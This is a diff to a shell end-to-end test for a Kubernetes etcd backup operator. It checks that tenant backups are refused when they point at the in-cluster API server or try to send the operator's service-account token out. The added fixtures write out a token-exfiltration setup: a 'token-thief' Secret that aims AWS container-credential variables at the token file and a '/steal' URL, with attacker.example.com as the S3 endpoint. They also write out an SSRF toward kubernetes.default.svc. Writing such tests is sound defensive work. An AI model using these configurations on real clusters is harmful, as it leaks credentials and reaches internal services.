@@ -48,6 +48,58 @@ spec:
     name: backup-credentials
 YAML
 }
+
+# A tenant's EtcdBackup cannot point the operator inside the cluster (here at the API server, by
+# name) nor have it send its own service-account token somewhere: both are refused, saying why.
+kubectl apply -f - >/dev/null <<YAML
+apiVersion: v1
+kind: Secret
+metadata:
+  name: token-thief
+stringData:
+  AWS_CONTAINER_CREDENTIALS_FULL_URI: $S3/steal
+  AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: /var/run/secrets/kubernetes.io/serviceaccount/token
+---
+apiVersion: etcd.etcd.io/v1alpha1
+kind: EtcdBackup
+metadata:
+  name: steal-token
+spec:
+  clusterRef:
+    name: demo
+  destination:
+    s3:
+      bucket: etcd-backups
+      endpoint: https://attacker.example.com
+  credentialsSecretRef:
+    name: token-thief
+---
+apiVersion: etcd.etcd.io/v1alpha1
+kind: EtcdBackup
+metadata:
+  name: to-apiserver
+spec:
+  clusterRef:
+    name: demo
+  destination:
+    s3:
+      bucket: etcd-backups
+      endpoint: https://kubernetes.default.svc
+      forcePathStyle: true
+  credentialsSecretRef:
+    name: backup-credentials
+YAML
+ready_message() { kubectl get etcdbackup "$1" -o jsonpath='{.status.conditions[?(@.type=="Ready")].message}'; }
+token_refused() { ready_message steal-token | grep -q 'AWS_CONTAINER_CREDENTIALS_FULL_URI are not credentials the operator takes'; }
+apiserver_refused() { ready_message to-apiserver | grep -q 'kubernetes.default.svc is .*--backup-endpoint-allow'; }
+wait_for "a Secret naming a credentials URL and a token file refused" 60 token_refused
+wait_for "an endpoint inside the cluster refused" 120 apiserver_refused
+log "refused: $(ready_message to-apiserver)"
+if grep -q steal "$WORK/moto.log"; then fail "the token thief's URL was called: $(grep steal "$WORK/moto.log")"; fi
+kubectl delete etcdbackup steal-token to-apiserver >/dev/null
+# The test's S3 server is on the node network: the administrator allows it.
+set_operator_env BACKUP_ENDPOINT_ALLOW 10.244.0.1
+
 s3_backup demo-now demo
 wait_for "the backup succeeded" 120 bash -c '[ "$(kubectl get etcdbackup demo-now -o jsonpath="{.status.phase}")" = Succeeded ]'
 # The operator read it back from S3 and restored it in its scratch space before it counted.
